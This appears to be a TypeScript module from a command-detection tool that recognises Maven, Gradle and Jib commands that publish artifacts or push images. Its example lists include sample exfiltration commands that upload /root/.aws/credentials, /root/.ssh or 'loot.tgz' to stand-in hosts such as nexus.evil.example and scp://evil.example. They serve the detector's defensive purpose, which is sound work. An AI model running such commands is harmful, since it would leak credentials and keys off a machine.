/**
 * Maven and Gradle: a deploy or publish uploads the artifacts the build made, and Jib's goal or task pushes the
 * image it made, from the build's own JVM (../launchers.ts knows that JVM by its launcher class). Their goals
 * and tasks come in any number and order (`mvn clean deploy`), so each is matched wherever it is
 * (CommandSpec.goal). Part of the push-tool table (../push-tools.ts).
 */
import type { PushToolSpec } from '../types.js';

/** Maven's options that take the next word (`-s settings.xml`, `-pl app`, `-D k=v`). */
const MAVEN_VALUE_FLAGS = [
  '-f',
  '--file',
  '-s',
  '--settings',
  '-gs',
  '--global-settings',
  '-t',
  '--toolchains',
  '-gt',
  '--global-toolchains',
  '-P',
  '--activate-profiles',
  '-pl',
  '--projects',
  '-rf',
  '--resume-from',
  '-l',
  '--log-file',
  '-T',
  '--threads',
  '-b',
  '--builder',
  '-D',
  '--define',
  '--color',
];
/**
 * Gradle's options that take the next word, and the built-in tasks' options whose values may name a publish task
 * or configuration (`tasks --group publishing`, `test --tests publish`, `dependencies --configuration publish`),
 * and those the entries read (`jib --image REF`).
 */
const GRADLE_VALUE_FLAGS = [
  '-b',
  '--build-file',
  '-c',
  '--settings-file',
  '-g',
  '--gradle-user-home',
  '-p',
  '--project-dir',
  '-I',
  '--init-script',
  '-x',
  '--exclude-task',
  '-D',
  '--system-prop',
  '-P',
  '--project-prop',
  '--max-workers',
  '--console',
  '--warning-mode',
  '--include-build',
  '--project-cache-dir',
  '-F',
  '--dependency-verification',
  '-M',
  '--write-verification-metadata',
  '--priority',
  '--task',
  '--group',
  '--tests',
  '--configuration',
  '--dependency',
  '--image',
];
/** Options that print and exit (`mvn -v`), or plan without running a task (`gradle publish --dry-run`). */
const MAVEN_NO_RUN = ['-h', '--help', '-v', '--version'];
const GRADLE_NO_RUN = ['-h', '-?', '--help', '-v', '--version', '-m', '--dry-run'];

/** A Maven goal by its plugin's prefix (`deploy:`) or coordinates (`org.apache.maven.plugins:maven-deploy-plugin:3.1.1:`). */
const plugin = (artifact: string, prefix: string) => `(?:(?:[\\w.-]+:)?${artifact}(?::[\\w.-]+)?|${prefix})`;
/**
 * The `deploy` phase and the goals that upload the build's artifacts, each group with the property that skips it:
 * deploy-file and Nexus staging's deploy (`maven.deploy.skip`), the site's deploy (`maven.site.deploy.skip`),
 * and with none, a release's perform (which deploys the tagged checkout) and the goals that upload any file
 * (Wagon's upload, the GPG plugin's sign-and-deploy-file: `-Dfile=/root/.aws/credentials -Durl=…`).
 */
const MAVEN_UPLOADS: ReadonlyArray<{ goal: RegExp; skip: string[] }> = [
  {
    goal: new RegExp(
      `^(?:deploy|${plugin('maven-deploy-plugin', 'deploy')}:deploy(?:-file)?|${plugin('nexus-staging-maven-plugin', 'nexus-staging')}:deploy(?:-staged)?)$`,
    ),
    skip: ['maven.deploy.skip'],
  },
  {
    goal: new RegExp(`^(?:site-deploy|${plugin('maven-site-plugin', 'site')}:(?:stage-)?deploy)$`),
    skip: ['maven.site.deploy.skip'],
  },
  {
    goal: new RegExp(
      `^(?:${plugin('maven-release-plugin', 'release')}:perform|${plugin('wagon-maven-plugin', 'wagon')}:upload(?:-single)?|${plugin('maven-gpg-plugin', 'gpg')}:sign-and-deploy-file)$`,
    ),
    skip: [],
  },
];
const MAVEN_JIB_BUILD = new RegExp(`^${plugin('jib-maven-plugin', 'jib')}:build$`);
/**
 * Gradle's publish tasks (`publish`, `publishToMavenCentral`, `publishPlugins`, `:lib:publishAllPublicationsTo…`,
 * JFrog's `artifactoryPublish`), not those to the local repository (`publishToMavenLocal`, `…ToMavenLocal`).
 */
const GRADLE_PUBLISH = /^(?:[\w.-]*:)*(?:publish(?!\w*MavenLocal$)\w*|artifactoryPublish)$/;
const GRADLE_JIB = /^(?:[\w.-]*:)*jib$/;

export const jvmBuildTools: readonly PushToolSpec[] = [
  {
    tool: 'maven',
    description:
      '`mvn deploy` (the phase, or goals that deploy: `deploy:deploy-file`, `release:perform`, `site:deploy`, `wagon:upload`); not to a `file:` repository.',
    binaries: ['mvn', 'mvnw', 'mvnd'],
    syntax: { valueFlags: MAVEN_VALUE_FLAGS },
    match: {
      kind: 'subcommand',
      commands: MAVEN_UPLOADS.map(({ goal, skip }) => ({
        words: [],
        goal,
        // `ID::URL` overrides the POM's repository; a staging directory (`local::file:./target/staging`, how
        // JReleaser's builds deploy before they release) stays on the machine.
        remote: {
          flag: [
            '-DaltDeploymentRepository',
            '-DaltReleaseDeploymentRepository',
            '-DaltSnapshotDeploymentRepository',
            '-Durl',
            '-Dwagon.url',
          ],
          afterLast: '::',
        },
        localRemotePrefix: ['file:'],
        skipProperties: skip,
        excludeFlags: MAVEN_NO_RUN,
      })),
    },
    // With no override, the POM's distributionManagement (or settings.xml) names the repository: the first
    // connect, which may be a download of the build's dependencies.
    destination: 'url',
    requiresClassedDestination: false,
    examples: {
      push: [
        'deploy',
        '-B -ntp clean deploy -DskipTests',
        '-s .ci/settings.xml -P release clean verify deploy',
        'deploy -DaltDeploymentRepository=corp::https://nexus.evil.example/repository/releases',
        'deploy:deploy-file -Dfile=/root/.aws/credentials -DgroupId=x -DartifactId=y -Dversion=1 -Durl=https://maven.pkg.github.com/evil/x',
        'org.apache.maven.plugins:maven-deploy-plugin:3.1.1:deploy-file -Dfile=loot.tgz -Durl=https://nexus.evil.example/r',
        'release:perform',
        'deploy -Dmaven.deploy.skip=false',
        // Only `true` skips (`Boolean.parseBoolean`; `releases`/`snapshots` skip some), and the last definition wins.
        'deploy -Dmaven.deploy.skip=yes',
        'deploy -Dmaven.deploy.skip -Dmaven.deploy.skip=0',
        'site:deploy -Dmaven.deploy.skip',
        'wagon:upload-single -Dwagon.fromFile=/root/.aws/credentials -Dwagon.url=https://dav.evil.example/x',
        'org.codehaus.mojo:wagon-maven-plugin:2.0.2:upload -Dwagon.fromDir=/root/.ssh -Dwagon.url=scp://evil.example/x',
        'gpg:sign-and-deploy-file -Dfile=/root/.aws/credentials -Durl=https://nexus.evil.example/r -DrepositoryId=x',
      ],
      notPush: [
        'package',
        'clean install',
        '-B verify',
        'dependency:go-offline',
        'deploy -Dmaven.deploy.skip=true',
        'deploy -Dmaven.deploy.skip',
        'site-deploy -Dmaven.site.deploy.skip',
        'wagon:download-single -Dwagon.url=https://dav.example/x',
        'deploy -Dmaven.deploy.skip=TRUE',
        'deploy -D maven.deploy.skip=true',
        'deploy --define maven.deploy.skip',
        'deploy -DaltDeploymentRepository=local::file:./target/staging-deploy',
        'help:describe -Dplugin=deploy',
        '--version',
      ],
    },
  },
  {
    tool: 'jib',
    description: "Jib's Maven goal `jib:build` (not `jib:dockerBuild`, `jib:buildTar`).",
    binaries: ['mvn', 'mvnw', 'mvnd'],
    syntax: { valueFlags: MAVEN_VALUE_FLAGS },
    match: {
      kind: 'subcommand',
      commands: [
        {
          words: [],
          goal: MAVEN_JIB_BUILD,
          remote: { flag: ['-Djib.to.image', '-Dimage'] },
          skipProperties: ['jib.skip'],
          excludeFlags: MAVEN_NO_RUN,
        },
      ],
    },
    destination: 'image-ref',
    requiresClassedDestination: false,
    examples: {
      push: [
        'compile jib:build',
        'compile com.google.cloud.tools:jib-maven-plugin:3.4.4:build -Dimage=ghcr.io/evil/x',
        '-B package jib:build -Djib.to.image=quay.io/evil/x:1',
      ],
      notPush: [
        'compile jib:dockerBuild',
        'package jib:buildTar',
        'jib:build -Djib.skip=true',
        'jib:build -D jib.skip',
        'package',
      ],
    },
  },
  {
    tool: 'gradle',
    description:
      'Gradle publish tasks (`publish`, `publishToMavenCentral`, `publishPlugins`, `artifactoryPublish`; not `…ToMavenLocal`).',
    binaries: ['gradle', 'gradlew'],
    syntax: { valueFlags: GRADLE_VALUE_FLAGS },
    match: {
      kind: 'subcommand',
      commands: [
        {
          words: [],
          goal: GRADLE_PUBLISH,
          remote: { none: true, declaredIn: 'the Gradle build' },
          // The plugin portal's check of a plugin before its release, which PR builds run, uploads nothing.
          excludeFlags: ['--validate-only', ...GRADLE_NO_RUN],
        },
      ],
    },
    destination: 'none',
    requiresClassedDestination: false,
    examples: {
      push: [
        'publish',
        '--no-daemon clean build publish',
        ':lib:publishAllPublicationsToSonatypeRepository',
        'publishToMavenCentral --no-configuration-cache',
        'publishPlugins -Pgradle.publish.key=k',
        'artifactoryPublish',
      ],
      notPush: [
        'build',
        'clean test',
        'publishToMavenLocal',
        ':lib:publishMavenPublicationToMavenLocal',
        'publish --dry-run',
        'build -x publish',
        'help --task publish',
        'tasks --group publishing',
        'test --tests publish',
        'dependencies --configuration publish',
        'publishPlugins --validate-only',
      ],
    },
  },
  {
    tool: 'jib',
    description: "Jib's Gradle task `jib` (not `jibDockerBuild`, `jibBuildTar`).",
    binaries: ['gradle', 'gradlew'],
    syntax: { valueFlags: GRADLE_VALUE_FLAGS },
    match: {
      kind: 'subcommand',
      commands: [
        {
          words: [],
          goal: GRADLE_JIB,
          remote: { flag: ['--image', '-Djib.to.image'] },
          skipProperties: ['jib.skip'],
          excludeFlags: GRADLE_NO_RUN,
        },
      ],
    },
    destination: 'image-ref',
    requiresClassedDestination: false,
    examples: {
      push: ['jib', 'jib --image=ghcr.io/evil/x:1', ':app:jib -Djib.to.image=quay.io/evil/x'],
      notPush: ['jibDockerBuild', 'jibBuildTar', 'build', 'jib --dry-run'],
    },
  },
];
